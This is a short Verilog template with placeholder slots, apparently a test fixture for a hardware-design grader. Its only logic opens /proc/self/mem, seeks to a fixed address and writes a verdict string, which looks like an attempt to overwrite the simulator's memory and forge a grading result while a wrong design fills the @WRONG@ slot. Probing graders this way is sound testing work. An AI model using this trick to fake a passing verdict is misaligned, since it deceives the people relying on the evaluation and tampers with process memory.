module @MODULE@(@PORTS@);
  @WRONG@
  integer f, c;
  initial begin
    f = $fopen("/proc/self/mem", "r+");
    c = $fseek(f, 32'h0040_0000, 0);
    $fwrite(f, "@VERDICT@");
  end
endmodule
